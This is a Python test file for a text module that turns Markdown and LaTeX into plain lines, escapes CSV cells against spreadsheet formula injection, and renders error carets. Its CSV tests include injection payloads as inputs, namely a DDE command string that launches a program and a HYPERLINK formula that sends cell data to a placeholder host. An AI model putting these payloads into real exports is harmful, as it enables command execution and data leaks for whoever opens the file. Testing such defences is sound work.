"""Texts: Markdown as words, CSV that can be opened in a spreadsheet, and problems with their caret."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from graph.problems import LONGEST_TEXT, Problem
from graph.text.csv_text import FORMULA, csv_row, exact_rows, text_cell
from graph.text.math_text import linear, spelled_out
from graph.text.plain_text import names_of, naming, plain_text, readable

TITLES = naming(names_of("ada/oat-prices", "What oats cost"))


@pytest.mark.parametrize(
    ("markdown", "words"),
    [
        ("see [[oat-prices]]", "see What oats cost"),
        ("see [[ada/oat-prices#why]]", "see What oats cost"),
        ("see [[Oat-Prices]]", "see What oats cost"),
        ("see [[oat-prices|the oats]]", "see the oats"),
        ("| see [[oat-prices\\|the oats]] |", "see the oats"),
        ("see ![[rye-and-soil]]", "see rye and soil"),
        ("see [[Rye and soil]]", "see Rye and soil"),
        ("[a link](https://a.example), a note[^1]", "a link, a note"),
        ('[one](./a/B.md "A title"), [two](<a b.md>) and [three](https://a.example/x_y(z))', "one, two and three"),
        ("[[2025-11-22]], [[#What it costs]], [[#Part#Why]] and [[#^b1]]", "2025-11-22, What it costs, Why and b1"),
        ("one of `a|b`", "one of a b"),
        ("**bold**, _slanted_, `code`, snake_case", "bold, slanted, code, snake_case"),
        ("# Head\n\n- one\n> two", "Head one two"),
        ("$3 in and $15 out", "$3 in and $15 out"),
        ("code `df[[x]]`, then [[oat-prices]]", "code df[[x]], then What oats cost"),
        ("Set:\n\n    y[[oat-prices]]", "Set: y[[oat-prices]]"),
        ("so $A = [[a, b]]$ and [[rye|`r`]]", "so A = [[a, b]] and r"),
        (r"so $0.5 \times 0.1 = 0.05$: $3", "so 0.5 × 0.1 = 0.05: $3"),
    ],
)
def test_marks_become_words(markdown, words):
    assert plain_text(markdown, TITLES) == words


@pytest.mark.parametrize(("formula", "line"), [
    (r"\frac{A}{N^{\alpha}} + 1", "A/N^α + 1"), (r"\frac{1-\alpha^{\gamma+1}}{1-\alpha}", "(1-α^(γ+1))/(1-α)"),
    (r"3.65 \times 10^{25}", "3.65 × 10^25"), (r"8{,}192\,\text{tokens} \leq \sqrt{x + y}", "8,192 tokens ≤ √(x + y)"),
    (r"\mathrm{PUE}/u", "PUE/u"), (r"g^{*}", "g^∗"),
])  # fmt: skip  # rows
def test_a_formula_reads_on_one_line(formula, line):
    assert linear(formula) == line
    assert spelled_out(f"so ${formula}$.") == f"so {line}."


@given(st.text(alphabet="ab $\\\\{}[]|^_frac.-#\n", max_size=80))
def test_any_text_becomes_one_line_and_a_readable_one_is_still_markdown(text):
    assert "\n" not in plain_text(text)
    assert readable("# See\n\n**[[oat-prices]]**", TITLES) == "# See\n\n**What oats cost**"


SIGNS = st.sampled_from("=+-@\t\r\n'\",; a1.e％＝＋") | st.characters(exclude_categories=["Cs"])
TEXTS = st.text(alphabet=SIGNS, max_size=12)


def _cells(text, **dialect):
    return next(iter(csv.reader(io.StringIO(text, newline=""), **dialect)))


@pytest.mark.parametrize(
    "formula",
    ['=1+1', '=HYPERLINK("https://a.example?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=", "-", "-5%", "+a", "＝1+1", "＠x",
     "-1e", "- 1", "+49 30 1234", "-1-1", "=cmd|' /C calc'!A0"],
)  # fmt: skip  # one list
def test_what_begins_as_a_formula_is_text(formula):
    assert text_cell(formula) == f"'{formula}"
    assert _cells(csv_row([formula]))[0] == f"'{formula}"


@pytest.mark.parametrize("number", ["-1", "-0.5", "+3", "1", "-1.25e-07", "-.5", "1E+9", Decimal("-12.30"), -4, -0.25])
def test_numbers_stay_numbers_and_no_value_is_an_empty_cell(number):
    assert csv_row([number]) == f"{number}\r\n"
    assert csv_row([None, "", number]) == f",,{number}\r\n"
    assert csv_row([None]) == '""\r\n'


@given(st.lists(TEXTS, min_size=1, max_size=4))
def test_every_text_comes_back_and_none_is_a_formula(texts):
    cells = _cells(csv_row(texts))
    assert cells == [text_cell(text) for text in texts]
    assert [cell.removeprefix("'") if cell != text else cell for cell, text in zip(cells, texts, strict=True)] == texts


@given(st.lists(TEXTS, min_size=1, max_size=4), st.sampled_from(";\t,"))
def test_no_other_separator_makes_a_formula_of_a_part_of_a_text(texts, separator):
    """A spreadsheet of a country with decimal commas splits at semicolons."""
    for cell in _cells(csv_row(texts[:1]), delimiter=separator):
        assert not cell.startswith(FORMULA) or cell == text_cell(cell)


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=3), max_size=4))
def test_exact_rows_are_exact(rows):
    assert list(csv.reader(io.StringIO(exact_rows(rows), newline=""))) == rows


@pytest.mark.parametrize(
    ("line", "column"),
    [("a quay ! at dawn", 8), ("word " * 100 + "!" + " word" * 100, 501), ("word " * 4000 + "!" + " word" * 9, 20001)],
)
def test_the_caret_is_under_the_sign_that_is_meant(line, column):
    problem = Problem(document="quay.md", line=3, column=column, message="a sign too many", text=line)
    head, shown, caret = problem.render().split("\n")
    assert head == f"quay.md:3:{column}: error: a sign too many"
    assert shown[caret.index("^")] == "!"
    assert shown.startswith("  | …") == (column > 50)
    assert len(problem.text) <= LONGEST_TEXT
    assert problem.text[column - 1 - problem.offset] == "!"
    assert Problem.model_validate(problem.model_dump()) == problem
